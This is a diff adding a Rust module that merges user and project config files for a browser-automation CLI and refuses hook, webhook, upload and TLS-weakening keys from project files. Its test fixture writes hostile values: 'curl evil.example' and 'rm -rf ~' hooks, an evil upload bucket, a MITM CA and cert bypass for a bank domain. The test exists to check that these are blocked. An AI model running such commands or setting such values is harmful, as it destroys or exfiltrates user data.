@@ -0,0 +1,744 @@
+//! Layered configuration files.
+//!
+//! Settings are read from the user file `~/.browseros/config.toml` and a
+//! project file `.agent-browser.toml` found in the current directory or any
+//! parent. Precedence is: CLI flags > environment variables > project file >
+//! user file. Flags and env vars are handled in `flags.rs`; this module only
+//! merges the two files.
+//!
+//! A project file comes with whatever repository is checked out, so keys in
+//! [`USER_ONLY_KEYS`] are ignored there: they run commands, send data
+//! elsewhere or weaken TLS checks, and only the user file may set them.
+
+use std::env;
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::process::{exit, Command};
+
+use crate::artifacts::{parse_age, parse_size};
+use crate::color;
+use crate::errors::ErrorCode;
+use crate::flags::{parse_action_rate, parse_duration_ms, parse_rate, parse_recycle_mode};
+use crate::hooks::Hook;
+use crate::install::get_browseros_home;
+use crate::ui;
+use crate::upload::Destination;
+
+pub const PROJECT_FILE: &str = ".agent-browser.toml";
+
+#[derive(Clone, Copy, PartialEq)]
+enum Kind {
+    Str,
+    Bool,
+    Duration,
+    Output,
+    Age,
+    Size,
+    Destination,
+    Url,
+    Events,
+    WebhookFormat,
+    Seed,
+    Rate,
+    Count,
+    ActionRate,
+    RecycleMode,
+}
+
+/// Supported keys, their value kind, and a short description for `config list`.
+const KEYS: &[(&str, Kind, &str)] = &[
+    ("executable-path", Kind::Str, "Browser executable path"),
+    (
+        "browser",
+        Kind::Str,
+        "Browser to find: browseros, chrome, edge, chromium or path:<exe>",
+    ),
+    ("profile", Kind::Str, "Persistent browser profile directory"),
+    ("headed", Kind::Bool, "Show browser window (true/false)"),
+    (
+        "timeout",
+        Kind::Duration,
+        "Default action timeout (e.g. 30s)",
+    ),
+    (
+        "action-timeout",
+        Kind::Duration,
+        "How long actions wait for their element (e.g. 10s; overrides timeout)",
+    ),
+    (
+        "nav-timeout",
+        Kind::Duration,
+        "How long page loads and URL waits take at most (e.g. 30s)",
+    ),
+    (
+        "idle-timeout",
+        Kind::Duration,
+        "How long to wait for the network to go idle (e.g. 5s)",
+    ),
+    (
+        "step-timeout",
+        Kind::Duration,
+        "Longest a `run` script step may take, retries included (e.g. 1m)",
+    ),
+    (
+        "run-deadline",
+        Kind::Duration,
+        "Longest a whole `run` may take (e.g. 15m)",
+    ),
+    ("proxy", Kind::Str, "Proxy server URL"),
+    (
+        "remote",
+        Kind::Str,
+        "Remote browser pool: wss:// DevTools or https:// Selenium Grid URL",
+    ),
+    (
+        "remote-keepalive",
+        Kind::Duration,
+        "Ping interval for the remote connection (e.g. 30s, 0 to disable)",
+    ),
+    ("proxy-bypass", Kind::Str, "Hosts to bypass the proxy for"),
+    (
+        "extra-ca",
+        Kind::Str,
+        "PEM files with extra CA certificates to trust (comma-separated)",
+    ),
+    (
+        "ignore-cert-errors-for",
+        Kind::Str,
+        "Hosts whose certificates aren't verified (e.g. intranet.local,*.corp.example)",
+    ),
+    (
+        "client-cert",
+        Kind::Str,
+        "Client certificate for mutual TLS (PEM, or a .p12/.pfx bundle)",
+    ),
+    ("client-key", Kind::Str, "Private key for client-cert (PEM)"),
+    (
+        "client-cert-origin",
+        Kind::Str,
+        "Origins that get the client certificate (comma-separated)",
+    ),
+    (
+        "auth-server-allowlist",
+        Kind::Str,
+        "Hosts allowed to use integrated Windows auth (NTLM/Kerberos)",
+    ),
+    (
+        "auth-delegate-allowlist",
+        Kind::Str,
+        "Hosts Kerberos credentials may be delegated to",
+    ),
+    ("output", Kind::Output, "Output format: text or json"),
+    ("adblock", Kind::Bool, "Block ads and trackers (true/false)"),
+    (
+        "stealth",
+        Kind::Bool,
+        "Hide common headless fingerprints (true/false)",
+    ),
+    (
+        "deterministic",
+        Kind::Bool,
+        "Seeded Math.random, no animations or smooth scrolling (true/false)",
+    ),
+    (
+        "init-script",
+        Kind::Str,
+        "Scripts run in every document before the page's own (comma-separated)",
+    ),
+    (
+        "respect-robots",
+        Kind::Bool,
+        "Block navigations disallowed by robots.txt (true/false)",
+    ),
+    (
+        "transcript",
+        Kind::Bool,
+        "Record a transcript of each session for export (true/false)",
+    ),
+    (
+        "audit-log",
+        Kind::Bool,
+        "Keep a hash-chained audit log of each session (true/false)",
+    ),
+    (
+        "read-only",
+        Kind::Bool,
+        "Refuse input and requests that write to servers (true/false)",
+    ),
+    (
+        "guardrails",
+        Kind::Bool,
+        "Block payment requests and checkout pages (true/false)",
+    ),
+    (
+        "guardrail-rules",
+        Kind::Str,
+        "JSON file of extra guardrail rules (turns guardrails on)",
+    ),
+    (
+        "rate",
+        Kind::Rate,
+        "Per-domain request limit (e.g. 5/s, or 5/s,example.com=1/s)",
+    ),
+    (
+        "nav-rate",
+        Kind::Rate,
+        "Per-domain navigation limit (e.g. 10/m)",
+    ),
+    (
+        "max-concurrent",
+        Kind::Count,
+        "Commands running at once on a browser shared by sessions (0 for no cap)",
+    ),
+    (
+        "action-rate",
+        Kind::ActionRate,
+        "Commands started on a browser shared by sessions (e.g. 10/s)",
+    ),
+    (
+        "max-tab-memory",
+        Kind::Size,
+        "Recycle tabs whose JS heap grows past this (e.g. 1G)",
+    ),
+    (
+        "recycle-mode",
+        Kind::RecycleMode,
+        "How tabs over max-tab-memory are recycled: reload or recreate",
+    ),
+    (
+        "humanize",
+        Kind::Bool,
+        "Human-like mouse paths and typing for click, type and scroll (true/false)",
+    ),
+    (
+        "humanize-seed",
+        Kind::Seed,
+        "Seed that makes humanized input repeatable",
+    ),
+    (
+        "on-session-start",
+        Kind::Str,
+        "Hook command run when a session's daemon starts",
+    ),
+    (
+        "on-session-end",
+        Kind::Str,
+        "Hook command run when a session is closed",
+    ),
+    (
+        "on-step-failure",
+        Kind::Str,
+        "Hook command run when a command fails",
+    ),
+    (
+        "on-download",
+        Kind::Str,
+        "Hook command run when a download is saved",
+    ),
+    (
+        "on-crash",
+        Kind::Str,
+        "Hook command run when the browser or daemon crashes",
+    ),
+    ("webhook", Kind::Url, "URL to POST hook events to"),
+    (
+        "webhook-secret",
+        Kind::Str,
+        "Secret used to sign webhook bodies (HMAC-SHA256)",
+    ),
+    (
+        "webhook-events",
+        Kind::Events,
+        "Comma-separated events to send to the webhook (default: all)",
+    ),
+    (
+        "webhook-format",
+        Kind::WebhookFormat,
+        "Webhook body format: json or slack",
+    ),
+    (
+        "otel-endpoint",
+        Kind::Url,
+        "OTLP/HTTP collector to send traces to (e.g. http://localhost:4318)",
+    ),
+    (
+        "artifacts-max-age",
+        Kind::Age,
+        "Delete artifacts older than this when a session starts (e.g. 7d)",
+    ),
+    (
+        "artifacts-max-size",
+        Kind::Size,
+        "Keep at most this much in the artifacts directory (e.g. 5G)",
+    ),
+    (
+        "quota",
+        Kind::Size,
+        "Most ~/.browseros may hold; installs past it are refused (e.g. 10G)",
+    ),
+    (
+        "upload",
+        Kind::Destination,
+        "Upload run and recording artifacts to s3://bucket/prefix or gs://bucket/prefix",
+    ),
+];
+
+/// Keys read from the user file only.
+const USER_ONLY_KEYS: &[&str] = &[
+    "executable-path",
+    "on-session-start",
+    "on-session-end",
+    "on-step-failure",
+    "on-download",
+    "on-crash",
+    "webhook",
+    "webhook-secret",
+    "webhook-events",
+    "webhook-format",
+    "upload",
+    "extra-ca",
+    "ignore-cert-errors-for",
+];
+
+/// Whether `key = value` may only come from the user file. A `browser` of
+/// `path:<exe>` names an executable, like `executable-path`.
+fn user_only(key: &str, value: &toml::Value) -> bool {
+    USER_ONLY_KEYS.contains(&key)
+        || (key == "browser" && value.as_str().is_some_and(|v| v.starts_with("path:")))
+}
+
+#[derive(Clone, Copy, PartialEq, Debug)]
+pub enum Source {
+    User,
+    Project,
+}
+
+impl Source {
+    fn label(self) -> &'static str {
+        match self {
+            Source::User => "user",
+            Source::Project => "project",
+        }
+    }
+}
+
+/// Merged view of the user and project config files.
+#[derive(Default)]
+pub struct Config {
+    values: Vec<(String, toml::Value, Source)>,
+}
+
+impl Config {
+    /// Load and merge the config files for the current directory.
+    pub fn load() -> Config {
+        let cwd = env::current_dir().unwrap_or_default();
+        Config::load_from(&user_config_path(), find_project_config(&cwd).as_deref())
+    }
+
+    fn load_from(user: &Path, project: Option<&Path>) -> Config {
+        let mut config = Config::default();
+        config.merge(read_table(user), Source::User);
+        if let Some(project) = project {
+            let mut table = read_table(project);
+            table.retain(|key, value| {
+                if user_only(key, value) {
+                    ui::warn(format!(
+                        "Ignoring {} in {}: it can only be set in {}",
+                        key,
+                        project.display(),
+                        user.display()
+                    ));
+                }
+                !user_only(key, value)
+            });
+            config.merge(table, Source::Project);
+        }
+        config
+    }
+
+    fn merge(&mut self, table: toml::Table, source: Source) {
+        for (key, value) in table {
+            self.values.retain(|(k, _, _)| *k != key);
+            self.values.push((key, value, source));
+        }
+    }
+
+    fn get(&self, key: &str) -> Option<&toml::Value> {
+        self.values
+            .iter()
+            .find(|(k, _, _)| k == key)
+            .map(|(_, v, _)| v)
+    }
+
+    pub fn get_str(&self, key: &str) -> Option<String> {
+        match self.get(key)? {
+            toml::Value::String(s) => Some(s.clone()),
+            other => Some(other.to_string()),
+        }
+    }
+
+    pub fn get_bool(&self, key: &str) -> Option<bool> {
+        self.get(key)?.as_bool()
+    }
+
+    /// Durations may be written as a number of milliseconds or a string like "30s".
+    pub fn get_duration_ms(&self, key: &str) -> Option<u64> {
+        match self.get(key)? {
+            toml::Value::Integer(n) => u64::try_from(*n).ok(),
+            toml::Value::String(s) => parse_duration_ms(s),
+            _ => None,
+        }
+    }
+}
+
+pub fn user_config_path() -> PathBuf {
+    get_browseros_home().join("config.toml")
+}
+
+/// Walk up from `start` looking for a project config file.
+pub fn find_project_config(start: &Path) -> Option<PathBuf> {
+    start
+        .ancestors()
+        .map(|dir| dir.join(PROJECT_FILE))
+        .find(|path| path.is_file())
+}
+
+fn read_table(path: &Path) -> toml::Table {
+    let Ok(content) = fs::read_to_string(path) else {
+        return toml::Table::new();
+    };
+    match content.parse::<toml::Table>() {
+        Ok(table) => table,
+        Err(e) => {
+            ui::warn(format!(
+                "Ignoring invalid config file {}: {}",
+                path.display(),
+                e.message()
+            ));
+            toml::Table::new()
+        }
+    }
+}
+
+/// Convert a CLI string into the TOML value stored for `key`.
+fn parse_value(key: &str, raw: &str) -> Result<toml::Value, String> {
+    let Some(&(_, kind, _)) = KEYS.iter().find(|(k, _, _)| *k == key) else {
+        let valid: Vec<&str> = KEYS.iter().map(|(k, _, _)| *k).collect();
+        return Err(format!(
+            "Unknown config key: {}\nValid keys: {}",
+            key,
+            valid.join(", ")
+        ));
+    };
+    match kind {
+        Kind::Str => Ok(toml::Value::String(raw.to_string())),
+        Kind::Bool => raw
+            .parse::<bool>()
+            .map(toml::Value::Boolean)
+            .map_err(|_| format!("Invalid value for {}: expected true or false", key)),
+        Kind::Duration => parse_duration_ms(raw)
+            .map(|_| toml::Value::String(raw.to_string()))
+            .ok_or_else(|| format!("Invalid value for {}: expected e.g. 500ms, 30s", key)),
+        Kind::Output => match raw {
+            "text" | "json" => Ok(toml::Value::String(raw.to_string())),
+            _ => Err(format!("Invalid value for {}: expected text or json", key)),
+        },
+        Kind::Age => parse_age(raw)
+            .map(|_| toml::Value::String(raw.to_string()))
+            .ok_or_else(|| format!("Invalid value for {}: expected e.g. 12h, 7d", key)),
+        Kind::Size => parse_size(raw)
+            .map(|_| toml::Value::String(raw.to_string()))
+            .ok_or_else(|| format!("Invalid value for {}: expected e.g. 500M, 5G", key)),
+        Kind::Destination => Destination::parse(raw)
+            .map(|_| toml::Value::String(raw.to_string()))
+            .map_err(|e| format!("Invalid value for {}: {}", key, e)),
+        Kind::Url => {
+            if raw.starts_with("http://") || raw.starts_with("https://") {
+                Ok(toml::Value::String(raw.to_string()))
+            } else {
+                Err(format!(
+                    "Invalid value for {}: expected an http(s) URL",
+                    key
+                ))
+            }
+        }
+        Kind::Events => {
+            let valid: Vec<&str> = Hook::ALL.iter().map(|h| h.event()).collect();
+            match raw.split(',').map(str::trim).find(|e| !valid.contains(e)) {
+                None => Ok(toml::Value::String(raw.to_string())),
+                Some(event) => Err(format!(
+                    "Invalid value for {}: unknown event '{}' (expected {})",
+                    key,
+                    event,
+                    valid.join(", ")
+                )),
+            }
+        }
+        Kind::WebhookFormat => match raw {
+            "json" | "slack" => Ok(toml::Value::String(raw.to_string())),
+            _ => Err(format!("Invalid value for {}: expected json or slack", key)),
+        },
+        Kind::Seed | Kind::Count => raw
+            .parse::<u32>()
+            .map(|n| toml::Value::Integer(n.into()))
+            .map_err(|_| format!("Invalid value for {}: expected a non-negative integer", key)),
+        Kind::Rate => parse_rate(raw)
+            .map(|_| toml::Value::String(raw.to_string()))
+            .map_err(|e| format!("Invalid value for {}: {}", key, e)),
+        Kind::RecycleMode => parse_recycle_mode(raw)
+            .map(|_| toml::Value::String(raw.to_string()))
+            .map_err(|e| format!("Invalid value for {}: {}", key, e)),
+        Kind::ActionRate => parse_action_rate(raw)
+            .map(|_| toml::Value::String(raw.to_string()))
+            .map_err(|e| format!("Invalid value for {}: {}", key, e)),
+    }
+}
+
+pub(crate) fn write_value(path: &Path, key: &str, value: toml::Value) -> Result<(), String> {
+    let mut table = read_table(path);
+    table.insert(key.to_string(), value);
+    if let Some(dir) = path.parent() {
+        fs::create_dir_all(dir)
+            .map_err(|e| format!("Failed to create {}: {}", dir.display(), e))?;
+    }
+    let content = toml::to_string(&table).map_err(|e| e.to_string())?;
+    fs::write(path, content).map_err(|e| format!("Failed to write {}: {}", path.display(), e))
+}
+
+/// Target file for `set`/`edit`: the project file with --project, else the user file.
+fn target_path(args: &[String]) -> PathBuf {
+    if args.iter().any(|a| a == "--project") {
+        let cwd = env::current_dir().unwrap_or_default();
+        find_project_config(&cwd).unwrap_or_else(|| cwd.join(PROJECT_FILE))
+    } else {
+        user_config_path()
+    }
+}
+
+/// Handle `agent-browser config <get|set|list|edit>` (runs locally, no daemon).
+pub fn run_config(args: &[String]) {
+    let positional: Vec<&str> = args
+        .iter()
+        .skip(1)
+        .map(|s| s.as_str())
+        .filter(|s| !s.starts_with("--"))
+        .collect();
+
+    match positional.first().copied() {
+        Some("get") => {
+            let Some(key) = positional.get(1) else {
+                ui::fail(
+                    ErrorCode::InvalidArgs,
+                    "Missing arguments for: config get\nUsage: agent-browser config get <key>",
+                );
+            };
+            let value = Config::load().get_str(key);
+            if ui::json_mode() {
+                ui::print_json_data(serde_json::json!({ "key": key, "value": value }));
+            } else if let Some(value) = value {
+                println!("{}", value);
+            } else {
+                exit(1);
+            }
+        }
+        Some("set") => {
+            let (Some(key), Some(raw)) = (positional.get(1), positional.get(2)) else {
+                ui::fail(ErrorCode::InvalidArgs, "Missing arguments for: config set\nUsage: agent-browser config set <key> <value> [--project]");
+            };
+            let value =
+                parse_value(key, raw).unwrap_or_else(|e| ui::fail(ErrorCode::InvalidArgs, e));
+            if user_only(key, &value) && args.iter().any(|a| a == "--project") {
+                ui::fail(
+                    ErrorCode::InvalidArgs,
+                    format!("{} can only be set in the user config", key),
+                );
+            }
+            let path = target_path(args);
+            write_value(&path, key, value).unwrap_or_else(|e| ui::fail(ErrorCode::Unknown, e));
+            if ui::json_mode() {
+                ui::print_json_data(serde_json::json!({ "key": key, "value": raw, "path": path }));
+            } else {
+                ui::status(format!(
+                    "{} Set {} = {} in {}",
+                    color::success_indicator(),
+                    key,
+                    raw,
+                    color::dim(&path.display().to_string())
+                ));
+            }
+        }
+        Some("list") | None => {
+            let config = Config::load();
+            if ui::json_mode() {
+                let values: serde_json::Map<String, serde_json::Value> = config
+                    .values
+                    .iter()
+                    .map(|(k, v, source)| {
+                        (
+                            k.clone(),
+                            serde_json::json!({ "value": v, "source": source.label() }),
+                        )
+                    })
+                    .collect();
+                ui::print_json_data(serde_json::json!({ "config": values }));
+                return;
+            }
+            if config.values.is_empty() {
+                println!("No config values set. Available keys:");
+                for (key, _, description) in KEYS {
+                    println!("  {:<18} {}", key, color::dim(description));
+                }
+            }
+            for (key, value, source) in &config.values {
+                let shown = match value {
+                    _ if key.ends_with("-secret") => "********".to_string(),
+                    toml::Value::String(s) => s.clone(),
+                    other => other.to_string(),
+                };
+                println!(
+                    "{} = {} {}",
+                    color::cyan(key),
+                    shown,
+                    color::dim(source.label())
+                );
+            }
+            println!();
+            println!(
+                "{}",
+                color::dim(&format!("user:    {}", user_config_path().display()))
+            );
+            let cwd = env::current_dir().unwrap_or_default();
+            if let Some(project) = find_project_config(&cwd) {
+                println!("{}", color::dim(&format!("project: {}", project.display())));
+            }
+        }
+        Some("edit") => {
+            let path = target_path(args);
+            if !path.exists() {
+                if let Some(dir) = path.parent() {
+                    let _ = fs::create_dir_all(dir);
+                }
+                let _ = fs::write(&path, "");
+            }
+            let editor = env::var("VISUAL")
+                .or_else(|_| env::var("EDITOR"))
+                .unwrap_or_else(|_| {
+                    if cfg!(windows) {
+                        "notepad".to_string()
+                    } else {
+                        "vi".to_string()
+                    }
+                });
+            let status = Command::new(&editor).arg(&path).status();
+            match status {
+                Ok(s) if s.success() => {}
+                Ok(_) => exit(1),
+                Err(e) => ui::fail(
+                    ErrorCode::Unknown,
+                    format!("Failed to run editor '{}': {}", editor, e),
+                ),
+            }
+        }
+        Some(other) => ui::fail(
+            ErrorCode::InvalidArgs,
+            format!(
+                "Unknown subcommand: {}\nValid options: get, set, list, edit",
+                other
+            ),
+        ),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn write(dir: &Path, name: &str, content: &str) -> PathBuf {
+        let path = dir.join(name);
+        fs::write(&path, content).unwrap();
+        path
+    }
+
+    #[test]
+    fn test_project_overrides_user() {
+        let dir = env::temp_dir().join(format!("ab-config-test-{}", std::process::id()));
+        fs::create_dir_all(&dir).unwrap();
+        let user = write(
+            &dir,
+            "user.toml",
+            "headed = true\nproxy = \"http://user\"\n",
+        );
+        let project = write(
+            &dir,
+            "project.toml",
+            "proxy = \"http://project\"\ntimeout = \"30s\"\n",
+        );
+
+        let config = Config::load_from(&user, Some(&project));
+        assert_eq!(config.get_bool("headed"), Some(true));
+        assert_eq!(config.get_str("proxy").as_deref(), Some("http://project"));
+        assert_eq!(config.get_duration_ms("timeout"), Some(30_000));
+
+        fs::remove_dir_all(&dir).unwrap();
+    }
+
+    #[test]
+    fn test_project_cannot_set_hooks() {
+        let dir = env::temp_dir().join(format!("ab-config-hooks-{}", std::process::id()));
+        fs::create_dir_all(&dir).unwrap();
+        let user = write(&dir, "user.toml", "on-crash = \"notify-send crashed\"\n");
+        let project = write(
+            &dir,
+            "project.toml",
+            "on-crash = \"curl evil.example\"\non-session-start = \"rm -rf ~\"\n\
+             webhook = \"https://evil.example\"\nexecutable-path = \"./payload\"\n\
+             browser = \"path:./payload\"\nupload = \"s3://evil/loot\"\n\
+             extra-ca = \"./mitm.pem\"\nignore-cert-errors-for = \"*.bank.example\"\nheaded = true\n",
+        );
+
+        let config = Config::load_from(&user, Some(&project));
+        assert_eq!(
+            config.get_str("on-crash").as_deref(),
+            Some("notify-send crashed")
+        );
+        assert!(config.get_str("on-session-start").is_none());
+        assert!(config.get_str("webhook").is_none());
+        assert!(config.get_str("executable-path").is_none());
+        assert!(config.get_str("browser").is_none());
+        assert!(config.get_str("upload").is_none());
+        assert!(config.get_str("extra-ca").is_none());
+        assert!(config.get_str("ignore-cert-errors-for").is_none());
+        assert_eq!(config.get_bool("headed"), Some(true));
+
+        fs::remove_dir_all(&dir).unwrap();
+    }
+
+    #[test]
+    fn test_missing_files_are_empty() {
+        let config = Config::load_from(Path::new("/nonexistent/config.toml"), None);
+        assert!(config.get_str("proxy").is_none());
+    }
+
+    #[test]
+    fn test_parse_value_validates_keys() {
+        assert!(parse_value("headed", "true").is_ok());
+        assert!(parse_value("headed", "yes").is_err());
+        assert!(parse_value("output", "yaml").is_err());
+        assert!(parse_value("timeout", "10s").is_ok());
+        assert!(parse_value("webhook", "https://hooks.example.com/x").is_ok());
+        assert!(parse_value("webhook", "hooks.example.com").is_err());
+        assert!(parse_value("webhook-events", "crash, step_failure").is_ok());
+        assert!(parse_value("webhook-events", "crash,boom").is_err());
+        assert!(parse_value("humanize-seed", "42").is_ok());
+        assert!(parse_value("humanize-seed", "-1").is_err());
+        assert!(parse_value("rate", "5/s,example.com=1/s").is_ok());
+        assert!(parse_value("nav-rate", "fast").is_err());
+        assert!(parse_value("max-concurrent", "3").is_ok());
+        assert!(parse_value("action-rate", "example.com=1/s").is_err());
+        assert!(parse_value("max-tab-memory", "1G").is_ok());
+        assert!(parse_value("recycle-mode", "restart").is_err());
+        assert!(parse_value("nope", "1")
+            .unwrap_err()
+            .contains("Unknown config key"));
+    }
+}